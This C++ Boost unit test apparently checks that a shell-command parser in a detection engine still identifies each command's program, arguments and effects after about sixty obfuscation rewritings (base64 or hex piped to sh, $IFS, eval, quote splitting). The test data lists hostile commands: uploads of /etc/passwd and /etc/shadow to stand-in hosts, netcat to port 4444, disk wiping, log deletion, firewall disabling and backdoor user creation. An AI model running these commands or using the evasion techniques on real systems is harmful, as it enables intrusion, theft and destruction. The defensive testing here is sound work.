#include "unit/shell/read_line.hpp"

#include <boost/test/unit_test.hpp>

#include <array>
#include <iomanip>
#include <iostream>

BOOST_AUTO_TEST_SUITE(shell_rewritings)

using namespace rulehost::shell;

namespace {

constexpr std::string_view commands[]{
    "wget http://h.example/x",
    "wget -q -O /tmp/x http://h.example/x",
    "curl -s -o /tmp/x http://h.example/x",
    "curl -T /etc/passwd http://h.example/u",
    "tftp -g -r x 192.0.2.1",
    "scp /etc/shadow u@h.example:/tmp/",
    "nc -w 3 192.0.2.1 4444",
    "ssh -p 2222 root@192.0.2.1",
    "cat /etc/shadow",
    "cat /etc/passwd /etc/group",
    "head -n 5 /var/log/auth.log",
    "cp /etc/passwd /tmp/x",
    "mv /tmp/x /usr/bin/y",
    "rm -rf /var/log/wtmp",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "chmod 777 /tmp/x",
    "chmod +x /tmp/x",
    "chown root:root /tmp/x",
    "chattr +i /etc/ld.so.preload",
    "install -m 755 /tmp/x /usr/bin/x",
    "ln -s /etc/shadow /tmp/x",
    "tee -a /etc/hosts",
    "sed -i s/a/b/ /etc/ssh/sshd_config",
    "touch -r /bin/ls /tmp/x",
    "find / -perm -4000 -type f",
    "grep -r password /etc",
    "tar -czf /tmp/x.tgz /etc",
    "useradd -m -s /bin/bash eve",
    "usermod -aG sudo eve",
    "passwd -d root",
    "crontab -r",
    "systemctl stop ufw",
    "iptables -F",
    "insmod /tmp/r.ko",
    "uname -a",
    "id -u",
    "ps aux",
    "kill -9 1234",
    "mount -o remount,rw /",
    "nmap -sS -p 22 192.0.2.0/24",
    "chpasswd -e",
    "setenforce 0",
    "tcpdump -w /tmp/x",
    "nproc --all",
    "python3 /tmp/x.py",
    "openssl s_client -connect 192.0.2.1:443",
};

std::string in_quotes(std::string_view text) {
    std::string all = "'";
    for (auto const c : text)
        if (c == '\'')
            all += "'\\''";
        else
            all += c;
    return all + "'";
}

std::string hex_of(std::string_view text) {
    constexpr std::string_view digits = "0123456789abcdef";
    std::string all;
    for (auto const c : text) {
        all += digits[static_cast<unsigned char>(c) >> 4U];
        all += digits[static_cast<unsigned char>(c) & 15U];
    }
    return all;
}

std::string base64_of(std::string_view text) {
    constexpr std::string_view digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string all;
    for (std::size_t at = 0; at < text.size(); at += 3) {
        std::uint32_t held = 0;
        for (std::size_t i = 0; i < 3; ++i)
            held = (held << 8U) | (at + i < text.size() ? static_cast<unsigned char>(text[at + i]) : 0U);
        for (std::size_t i = 0; i < 4; ++i)
            all += at + i > text.size() ? '=' : digits[(held >> (18 - 6 * i)) & 63U];
    }
    return all;
}

std::string escaped(std::string_view text, std::string_view sign) {
    std::string all;
    for (auto const c : text)
        all += std::string(sign) + hex_of({&c, 1});
    return all;
}

/// Line, program, and the rest with its blank.
using rewriting = std::string (*)(std::string const&, std::string const&, std::string const&);
struct kind {
    std::string_view name;
    rewriting made;
};
using text = std::string const&;

kind const kinds[]{
    {"quoted letter", [](text, text p, text r) { return "'" + p.substr(0, 1) + "'" + p.substr(1) + r; }},
    {"double-quoted program", [](text, text p, text r) { return "\"" + p + "\"" + r; }},
    {"backslash", [](text, text p, text r) { return p.substr(0, 1) + "\\" + p.substr(1) + r; }},
    {"empty quotes", [](text, text p, text r) { return p.substr(0, 1) + "''" + p.substr(1) + r; }},
    {"inserted $@", [](text, text p, text r) { return p.substr(0, 1) + "$@" + p.substr(1) + r; }},
    {"unset variable", [](text, text p, text r) { return p.substr(0, 1) + "${zz}" + p.substr(1) + r; }},
    {"line continued", [](text, text p, text r) { return p.substr(0, 1) + "\\\n" + p.substr(1) + r; }},
    {"$'..' in hexadecimal", [](text, text p, text r) { return "$'" + escaped(p, "\\x") + "'" + r; }},
    {"every word quoted",
     [](text l, text, text) {
         std::string all;
         for (std::size_t at = 0; at < l.size();) {
             auto const end = std::min(l.find(' ', at), l.size());
             all += (all.empty() ? "" : " ") + in_quotes(std::string_view(l).substr(at, end - at));
             at = end + 1;
         }
         return all;
     }},
    {"200 blanks", [](text, text p, text r) { return p + std::string(200, ' ') + (r.empty() ? r : r.substr(1)); }},
    {"tabs",
     [](text l, text, text) {
         auto all = l;
         std::ranges::replace(all, ' ', '\t');
         return all;
     }},
    {"sudo with options", [](text l, text, text) { return "sudo -u root -n " + l; }},
    {"doas", [](text l, text, text) { return "doas " + l; }},
    {"busybox", [](text l, text, text) { return "busybox " + l; }},
    {"env with a variable", [](text l, text, text) { return "env -i A=1 " + l; }},
    {"nohup in the background", [](text l, text, text) { return "nohup " + l + " &"; }},
    {"timeout", [](text l, text, text) { return "timeout -k 5 10 " + l; }},
    {"nice and ionice", [](text l, text, text) { return "nice -n 5 ionice -c 3 " + l; }},
    {"setsid", [](text l, text, text) { return "setsid -f " + l; }},
    {"command", [](text l, text, text) { return "command " + l; }},
    {"exec", [](text l, text, text) { return "exec " + l; }},
    {"chroot", [](text l, text, text) { return "chroot / " + l; }},
    {"xargs", [](text, text p, text r) { return "echo" + r + " | xargs " + p; }},
    {"subshell", [](text l, text, text) { return "( " + l + " )"; }},
    {"group", [](text l, text, text) { return "{ " + l + "; }"; }},
    {"sh -c", [](text l, text, text) { return "sh -c " + in_quotes(l); }},
    {"bash -c with options", [](text l, text, text) { return "bash -x -e -c " + in_quotes(l); }},
    {"su -c", [](text l, text, text) { return "su - root -c " + in_quotes(l); }},
    {"eval", [](text l, text, text) { return "eval " + in_quotes(l); }},
    {"here-string", [](text l, text, text) { return "bash <<< " + in_quotes(l); }},
    {"here-document", [](text l, text, text) { return "sh <<'E'\n" + l + "\nE"; }},
    {"echo into a shell", [](text l, text, text) { return "echo " + in_quotes(l) + " | sh"; }},
    {"printf into a shell", [](text l, text, text) { return "printf '" + escaped(l, "\\x") + "' | sh"; }},
    {"base64 into a shell", [](text l, text, text) { return "echo " + base64_of(l) + " | base64 -d | bash"; }},
    {"hex dump into a shell", [](text l, text, text) { return "echo " + hex_of(l) + " | xxd -r -p | sh"; }},
    {"rev into a shell",
     [](text l, text, text) { return "echo " + in_quotes(std::string(l.rbegin(), l.rend())) + " | rev | sh"; }},
    {"written script", [](text l, text, text) { return "echo " + in_quotes(l) + " > /tmp/s; sh /tmp/s"; }},
    {"script started by its path",
     [](text l, text, text) { return "echo " + in_quotes(l) + " > /tmp/s; chmod +x /tmp/s; /tmp/s"; }},
    {"variables in a word",
     [](text, text p, text r) { return "a=" + p.substr(0, 1) + "; b=" + p.substr(1) + "; $a$b" + r; }},
    {"line in a variable", [](text l, text, text) { return "a=" + in_quotes(l) + "; $a"; }},
    {"substitution gives the program", [](text, text p, text r) { return "$(echo " + p + ")" + r; }},
    {"backticks give a part",
     [](text, text p, text r) { return p.substr(0, 1) + "`echo " + (p.size() > 1 ? p.substr(1) : "") + "`" + r; }},
    {"function", [](text l, text, text) { return "f() { " + l + "; }; f"; }},
    {"alias", [](text, text p, text r) { return "alias x=" + p + "\nx" + r; }},
    {"loop", [](text l, text, text) { return "while :; do " + l + "; break; done"; }},
    {"value of a loop", [](text, text p, text r) { return "for x in " + p + "; do $x" + r + "; done"; }},
    {"behind a condition", [](text l, text, text) { return "[ -d / ] && " + l + " || true"; }},
    {"trap", [](text l, text, text) { return "trap " + in_quotes(l) + " EXIT"; }},
    {"path", [](text, text p, text r) { return "/usr/bin/" + p + r; }},
    {"path in another spelling", [](text, text p, text r) { return "/usr//bin/./../bin/" + p + r; }},
    {"globbed path", [](text, text p, text r) { return "/usr/b?n/" + p + r; }},
    {"joined to another line", [](text l, text, text) { return "uname -r; " + l + "; date"; }},
    {"carriage return", [](text l, text, text) { return l + "\r\n"; }},
    {"comment behind", [](text l, text, text) { return l + " # nothing"; }},
    {"python os.system", [](text l, text, text) { return "python3 -c 'import os; os.system(\"" + l + "\")'"; }},
    {"find -exec", [](text l, text, text) { return "find . -maxdepth 0 -exec " + l + " \\;"; }},
    {"brace list",
     [](text l, text, text) {
         auto all = l;
         if (all.find(' ') == std::string::npos || all.find(',') != std::string::npos)
             return all;
         std::ranges::replace(all, ' ', ',');
         return "{" + all + "}";
     }},
    {"$IFS between words",
     [](text l, text, text) {
         std::string all;
         for (auto const c : l)
             all += c == ' ' ? "${IFS}" : std::string(1, c);
         return all;
     }},
};

/// Program, arguments and effects of a command.
struct meaning {
    std::vector<std::string> words;
    std::set<std::string> effects;
    bool operator==(meaning const&) const = default;
};

meaning meaning_of(line_reading const& line, command const& of) {
    meaning made{line.words(of), {}};
    for (auto const& each : line.read.effects_of(of))
        if (each.kind != effect_kind::runs) // a program that is named by its path runs it
            made.effects.insert(std::string(to_string(each.kind)) + " " + std::string(each.target));
    return made;
}

bool is_kept(std::string_view plain, std::string const& rewritten) {
    line_reading const first(plain);
    auto const wanted = meaning_of(first, first.read.commands.front());
    line_reading const second(rewritten);
    return std::ranges::any_of(second.read.commands, [&](command const& each) {
        return each.from != source::kept && meaning_of(second, each) == wanted;
    });
}

} // namespace

/// A row of the table is a kind and how many of the commands keep program, arguments and effects.
BOOST_AUTO_TEST_CASE(rewritings_keep_program_arguments_and_effects) {
    static_assert(std::size(kinds) >= 40 && std::size(commands) >= 40);
    std::size_t all = 0;
    for (auto const& kind : kinds) {
        std::size_t kept = 0;
        std::string lost;
        for (auto const line : commands) {
            auto const blank = std::min(line.find(' '), line.size());
            auto const rewritten =
                kind.made(std::string(line), std::string(line.substr(0, blank)), std::string(line.substr(blank)));
            if (is_kept(line, rewritten))
                ++kept;
            else
                lost += "\n    " + rewritten;
        }
        all += kept;
        BOOST_TEST_MESSAGE(std::setw(34) << std::left << kind.name << kept << " of " << std::size(commands) << lost);
        BOOST_TEST(kept * 100 >= std::size(commands) * 80, kind.name << ": " << kept << lost);
    }
    auto const total = std::size(kinds) * std::size(commands);
    BOOST_TEST_MESSAGE("all kinds: " << all << " of " << total);
    BOOST_TEST(all * 100 >= total * 95, all << " of " << total);
}

BOOST_AUTO_TEST_SUITE_END()
